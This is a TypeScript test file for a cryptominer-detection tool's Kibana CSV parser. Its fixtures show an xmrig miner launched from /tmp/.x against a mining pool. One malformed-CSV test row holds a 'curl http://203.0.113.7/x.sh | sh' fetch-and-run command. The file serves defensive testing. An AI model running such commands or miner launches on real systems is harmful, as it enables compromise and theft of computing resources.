import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Event } from "../../model/index.js";
import { withoutPlace } from "../test-helpers/elastic-export.js";
import { parseWith, REPO_ROOT, sniffWith } from "../../test-helpers/index.js";
import { openBuffer } from "../input.js";
import { allSources, chooseSource } from "../index.js";
import type { Prefilter } from "../types.js";
import { runScan } from "../../pipeline/run.js";
import { MINER_PROCESS_ID } from "../../detect/detectors/host/miner-process.js";
import { ecsNdjsonSource } from "./ecs-ndjson.js";
import { ECS_KIBANA_CSV_ID, ecsKibanaCsvSource, kibanaTimeToIso } from "./kibana-csv.js";

// Elastic Defend: the miner starting, its DNS lookup of the pool, its connection to the pool's port.
const PROCESS_START = {
  "@timestamp": "2026-11-20T03:14:07.512Z",
  agent: { type: "endpoint" }, ecs: { version: "8.11.0" },
  event: { action: "start", category: ["process"], dataset: "endpoint.events.process", kind: "event", type: ["start"] },
  host: { name: "web-01" },
  process: {
    args: ["/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"], command_line: "/tmp/.x/xmrig -o pool.supportxmr.com:3333",
    executable: "/tmp/.x/xmrig", name: "xmrig", pid: 4242, parent: { name: "bash", pid: 880 },
  },
  user: { name: "www-data" },
};
const DNS_LOOKUP = {
  "@timestamp": "2026-11-20T03:14:08.250Z",
  agent: { type: "endpoint" }, ecs: { version: "8.11.0" },
  event: { action: "lookup_requested", category: ["network"], dataset: "endpoint.events.network", kind: "event", type: ["protocol", "info"] },
  host: { name: "web-01" },
  process: { name: "xmrig", pid: 4242 },
  dns: { question: { name: "pool.supportxmr.com", type: "A" }, resolved_ip: ["141.94.96.144"] },
};
const CONNECTION = {
  "@timestamp": "2026-11-20T03:14:09.000Z",
  agent: { type: "endpoint" }, ecs: { version: "8.11.0" },
  event: { action: "connection_attempted", category: ["network"], dataset: "endpoint.events.network", kind: "event", type: ["start"] },
  host: { name: "web-01" },
  process: { name: "xmrig", pid: 4242 },
  source: { ip: "10.0.0.5", port: 50312 }, destination: { ip: "141.94.96.144", port: 3333 }, network: { transport: "tcp" },
};
const DOCS = [PROCESS_START, DNS_LOOKUP, CONNECTION];

// The fields an analyst would select in Discover for these documents.
const COLUMNS = [
  "@timestamp", "agent.type", "ecs.version", "event.action", "event.category", "event.dataset", "event.kind", "event.type",
  "host.name", "user.name", "process.pid", "process.name", "process.executable", "process.command_line", "process.args",
  "process.parent.name", "process.parent.pid", "source.ip", "source.port", "destination.ip", "destination.port",
  "network.transport", "dns.question.name", "dns.question.type", "dns.resolved_ip",
];

interface CsvStyle {
  /** Lists as field formatters' JSON text, or joined with ", " (later exports). */
  lists: "json" | "joined";
  /** Times in Kibana's default dateFormat, or ISO 8601 (the advanced setting changed). */
  times: "display" | "iso";
}

function fieldOf(doc: object, path: string): unknown {
  if (Object.hasOwn(doc, path)) return (doc as Record<string, unknown>)[path];
  let v: unknown = doc;
  for (const part of path.split(".")) v = v !== null && typeof v === "object" ? (v as Record<string, unknown>)[part] : undefined;
  return v;
}

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** "MMM D, YYYY @ HH:mm:ss.SSS" in UTC, as Kibana writes with a browser in UTC. */
function displayTime(iso: string): string {
  const d = new Date(iso);
  const two = (n: number) => String(n).padStart(2, "0");
  return `${MONTHS[d.getUTCMonth()]} ${d.getUTCDate()}, ${d.getUTCFullYear()} @ ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}.${String(d.getUTCMilliseconds()).padStart(3, "0")}`;
}

/** A formatted value as Kibana's CSV writes it: formula-escaped, quoted when not alphanumeric. */
function escapeCell(text: string): string {
  const escaped = "=+-@".includes(text[0] ?? "x") ? `'${text}` : text;
  return /[^a-zA-Z0-9]/.test(escaped) ? `"${escaped.replaceAll('"', '""')}"` : escaped;
}

/** A value through Kibana's field formatters: " - " when missing, numbers grouped, lists as JSON or joined, dates. */
function formatted(column: string, value: unknown, style: CsvStyle): string {
  if (value === undefined || value === null) return " - ";
  if (typeof value === "number") return value.toLocaleString("en-US");
  if (Array.isArray(value)) return style.lists === "json" ? JSON.stringify(value) : value.join(", ");
  if (column === "@timestamp" && style.times === "display") return displayTime(String(value));
  return String(value);
}

function kibanaCsv(docs: readonly object[], columns: readonly string[], style: CsvStyle): string {
  const header = columns.map(escapeCell).join(",");
  const rows = docs.map((doc) => columns.map((c) => escapeCell(formatted(c, fieldOf(doc, c), style))).join(","));
  return [header, ...rows].join("\n") + "\n";
}

const ndjsonOf = (docs: readonly object[]): string => docs.map((d) => JSON.stringify(d)).join("\n") + "\n";

/** Both packagings are read under one name: log.file.path is then equal too. */
const PATH = "kibana-export";

async function ndjsonEvents(docs: readonly object[]): Promise<Event[]> {
  const { events, issues } = await parseWith(ecsNdjsonSource, ndjsonOf(docs), PATH);
  assert.deepEqual(issues, []);
  return events;
}

test("a Discover CSV of three documents gives the events their NDJSON gives, whichever list format", async () => {
  const expected = await ndjsonEvents(DOCS);
  for (const lists of ["json", "joined"] as const) {
    const csv = kibanaCsv(DOCS, COLUMNS, { lists, times: "display" });
    assert.ok(csv.includes('"4,242"') && csv.includes('"Nov 20, 2026 @ 03:14:07.512"') && csv.includes('" - "'), "written as Kibana writes");
    const { events, issues } = await parseWith(ecsKibanaCsvSource, csv, PATH);
    assert.equal(issues.length, 1, JSON.stringify(issues));
    assert.equal(issues[0]!.line, 2);
    assert.match(issues[0]!.message, /display format.*no time zone.*read as UTC/);
    assert.deepEqual(events.map(withoutPlace), expected.map(withoutPlace), lists);
    assert.deepEqual(events.map((e) => e["minerhunt.line"]), [2, 3, 4]);
    assert.ok(events.every((e) => e["minerhunt.format"] === ECS_KIBANA_CSV_ID));
  }
  // What those events are, so the comparison is not of two empty shells.
  const [proc, dns, conn] = expected;
  assert.deepEqual(proc!["process.args"], ["/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"]);
  assert.equal(proc!["process.pid"], 4242);
  assert.equal(proc!["@timestamp"], "2026-11-20T03:14:07.512Z");
  assert.equal(dns!["dns.question.name"], "pool.supportxmr.com");
  assert.deepEqual(dns!["dns.resolved_ip"], ["141.94.96.144"]);
  assert.equal(conn!["destination.port"], 3333);
  assert.deepEqual(conn!["event.category"], ["network"]);
  assert.equal(conn!["user.name"], undefined, "an empty cell is no field");
});

test("times: Kibana's display format and ISO 8601 both parse", async () => {
  assert.equal(kibanaTimeToIso("Nov 20, 2026 @ 03:14:07.512"), "2026-11-20T03:14:07.512Z");
  assert.equal(kibanaTimeToIso("Nov 2, 2026 @ 03:14:07.512"), "2026-11-02T03:14:07.512Z", "day without a leading zero (MMM D)");
  assert.equal(kibanaTimeToIso("Nov 20, 2026 @ 03:14:07.512345678"), "2026-11-20T03:14:07.512Z", "date_nanos format");
  assert.equal(kibanaTimeToIso("Nov 20, 2026 @ 04:14:07.512 +01:00"), "2026-11-20T03:14:07.512Z", "an offset is applied");
  assert.equal(kibanaTimeToIso("Nov 31, 2026 @ 03:14:07.512"), undefined, "no such day");
  assert.equal(kibanaTimeToIso("2026-11-20T03:14:07.512Z"), undefined);

  const iso = await parseWith(ecsKibanaCsvSource, kibanaCsv(DOCS, COLUMNS, { lists: "json", times: "iso" }), PATH);
  assert.deepEqual(iso.issues, [], "ISO times carry their zone: nothing to report");
  assert.deepEqual(iso.events.map(withoutPlace), (await ndjsonEvents(DOCS)).map(withoutPlace));

  // A time Kibana's format cannot hold is reported by ecsEvent, as for NDJSON, and the row is still read.
  const bad = await parseWith(ecsKibanaCsvSource, '"@timestamp","host.name","process.name"\n"Nov 31, 2026 @ 03:14:07.512","web-01","xmrig"\n', "bad-time.csv");
  assert.equal(bad.events.length, 1);
  assert.equal(bad.events[0]!["@timestamp"], undefined);
  assert.ok(bad.issues.some((i) => i.line === 2 && /not a time/.test(i.message)), JSON.stringify(bad.issues));
});

test("a _source export (no field selected) reads each document; selected columns win over it", async () => {
  const header = '"@timestamp","_source"';
  const rows = DOCS.map((d) => `${escapeCell(displayTime(d["@timestamp"]))},${escapeCell(JSON.stringify(d))}`);
  const csv = [header, ...rows].join("\n") + "\n";
  assert.ok(await sniffWith(ecsKibanaCsvSource, csv) >= 0.8, "sniffed from the documents");
  const { sample } = await openBuffer("discover.csv", csv);
  assert.equal(chooseSource(sample, allSources).source?.id, ECS_KIBANA_CSV_ID);
  const read = await parseWith(ecsKibanaCsvSource, csv, PATH);
  assert.equal(read.issues.length, 1, JSON.stringify(read.issues)); // the time zone, once
  assert.deepEqual(read.events.map(withoutPlace), (await ndjsonEvents(DOCS)).map(withoutPlace));

  // Kibana 8's "Document" column, with a selected host.name that differs from the document's.
  const doc = `"Document","host.name"\n${escapeCell(JSON.stringify(PROCESS_START))},"renamed-01"\n"not json",web02\n`;
  const mixed = await parseWith(ecsKibanaCsvSource, doc, "discover.csv");
  assert.equal(mixed.events[0]!["host.name"], "renamed-01", "the column wins");
  assert.equal(mixed.events[0]!["process.name"], "xmrig");
  assert.equal(mixed.events[1]!["host.name"], "web02", "a row whose document is not JSON keeps its columns");
  assert.deepEqual(mixed.issues.map((i) => i.line), [3]);
  assert.match(mixed.issues[0]!.message, /not a JSON object/);
});

test("a row with a broken quote is reported with its line; the rows after it are read", async () => {
  const columns = ["@timestamp", "host.name", "process.name", "process.command_line"];
  const csv = [
    columns.map(escapeCell).join(","),
    `"2026-11-20T03:14:07.512Z","web-01",xmrig,"/tmp/.x/xmrig -o pool.supportxmr.com:3333"`,
    // A command line with a newline: one record over two lines.
    `"2026-11-20T03:14:08.000Z","web-01",bash,"sh -c 'echo a
echo b'"`,
    // A quote inside a quoted cell left undoubled.
    `"2026-11-20T03:14:09.000Z","web-01",bash,"bash -c "curl http://203.0.113.7/x.sh | sh"`,
    // A row cut short.
    `"2026-11-20T03:14:10.000Z","web-01",kworker`,
    `"2026-11-20T03:14:11.000Z","web-01",xmrig,"./xmrig --donate-level=1"`,
  ].join("\n") + "\n";
  const { events, issues } = await parseWith(ecsKibanaCsvSource, csv, "discover.csv");
  assert.deepEqual(events.map((e) => e["minerhunt.line"]), [2, 3, 7]);
  assert.equal(events[1]!["process.command_line"], "sh -c 'echo a\necho b'");
  assert.deepEqual(issues.map((i) => i.line), [5, 6], JSON.stringify(issues));
  assert.match(issues[0]!.message, /CSV record could not be read/);
  assert.match(issues[1]!.message, /3 fields, the header 4/);
});

test("prefilter: rows that cannot matter are counted as skipped; the check sees numbers as the document has them", async () => {
  const csv = kibanaCsv(DOCS, COLUMNS, { lists: "joined", times: "iso" });
  const byPort: Prefilter = { domain: () => true, ip: () => true, port: () => true, text: (raw) => raw.includes('"destination.port":3333') };
  const { events, skipped } = await parseWith(ecsKibanaCsvSource, csv, "discover.csv", byPort);
  assert.equal(skipped, 2);
  assert.deepEqual(events.map((e) => e["destination.port"]), [3333]);
});

test("a Discover CSV of an xmrig start finds a miner through the whole scan", async (t) => {
  const dir = mkdtempSync(join(tmpdir(), "mh-kibana-csv-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, "Untitled discover search.csv");
  writeFileSync(file, kibanaCsv(DOCS, COLUMNS, { lists: "joined", times: "display" }));

  const { result, findings } = await runScan({ paths: [file], defaultRules: false });
  assert.deepEqual(result.files.map((f) => f.format), [ECS_KIBANA_CSV_ID], "sniffed as this source");
  assert.equal(result.issuesTotal, 1, JSON.stringify(result.issues)); // the time zone
  const miner = findings.find((f) => f.rule.id === MINER_PROCESS_ID);
  assert.ok(miner, findings.map((f) => f.rule.id).join(", "));
  assert.ok(miner.entities.hosts?.includes("web-01"), JSON.stringify(miner.entities));
});

test("sniff: billing and metrics CSVs stay with their sources; a CSV without ECS fields is not claimed", async () => {
  const others: [string, string, string][] = [
    ["metrics.csv", "cpu.csv", "timestamp,host,cpu_pct\n2026-11-20T03:00:00Z,web01,97.8\n"],
    ["metrics.csv", "metricbeat.csv", '"@timestamp","host.name","host.hostname","host.cpu.usage"\n"Nov 20, 2026 @ 03:00:00.000","web-01","web-01","0.978"\n'],
    ["metrics.csv", "host-cpu-gpu-5min.csv", readFileSync(join(REPO_ROOT, "examples/onprem/metrics/host-cpu-gpu-5min.csv"), "utf8")],
    ["nvidia_smi", "gpu.csv", "timestamp, name, index, utilization.gpu [%], memory.used [MiB], power.draw [W]\n2026/11/20 03:14:07.512, Tesla T4, 0, 100 %, 2000 MiB, 68.51 W\n"],
    ["aws.cur", "cur.csv", "lineItem/UsageAccountId,lineItem/UsageStartDate,lineItem/UsageType,lineItem/UnblendedCost\n444455556666,2026-11-20T03:00:00Z,BoxUsage:p3.16xlarge,24.48\n"],
    ["azure.cost_export", "azure.csv", "Date,SubscriptionId,MeterCategory,MeterSubCategory,ResourceLocation,CostInBillingCurrency,BillingCurrency\n11/20/2026,9f1a2b3c-4d5e-6f70-8192-a3b4c5d6e7f8,Virtual Machines,NCSv3 Series,EastUS,73.44,USD\n"],
    ["gcp.billing_export", "gcp.csv", "usage_start_time,usage_end_time,project.id,service.description,sku.description,location.region,cost,currency\n2026-11-20 03:00:00 UTC,2026-11-20 04:00:00 UTC,p1,Compute Engine,Nvidia Tesla V100 GPU running in Americas,us-central1,2.48,USD\n"],
  ];
  for (const [owner, path, text] of others) {
    assert.equal(await sniffWith(ecsKibanaCsvSource, text, path), 0, `${path} is not claimed`);
    const { sample } = await openBuffer(path, text);
    assert.equal(chooseSource(sample, allSources).source?.id, owner, `${path} is still ${owner}'s`);
  }
  const notEcs = [
    '"@timestamp","message","level"\n"Nov 20, 2026 @ 03:14:07.512","started","info"\n',
    '"@timestamp","host.name","message"\n"Nov 20, 2026 @ 03:14:07.512","web-01","started"\n', // one ECS field only
    '"host.name","process.name","process.pid"\nweb-01,xmrig,"4,242"\n', // no time, no document
    '"@timestamp","_source"\n"Nov 20, 2026 @ 03:14:07.512","{""message"":""started""}"\n', // a document, not ECS
  ];
  for (const text of notEcs) assert.equal(await sniffWith(ecsKibanaCsvSource, text, "export.csv"), 0, text);
  // The header Kibana writes with formula escaping on ("'@timestamp") is still this source's.
  assert.ok(await sniffWith(ecsKibanaCsvSource, `"'@timestamp","host.name","process.name"\n`, "export.csv") >= 0.8);
});
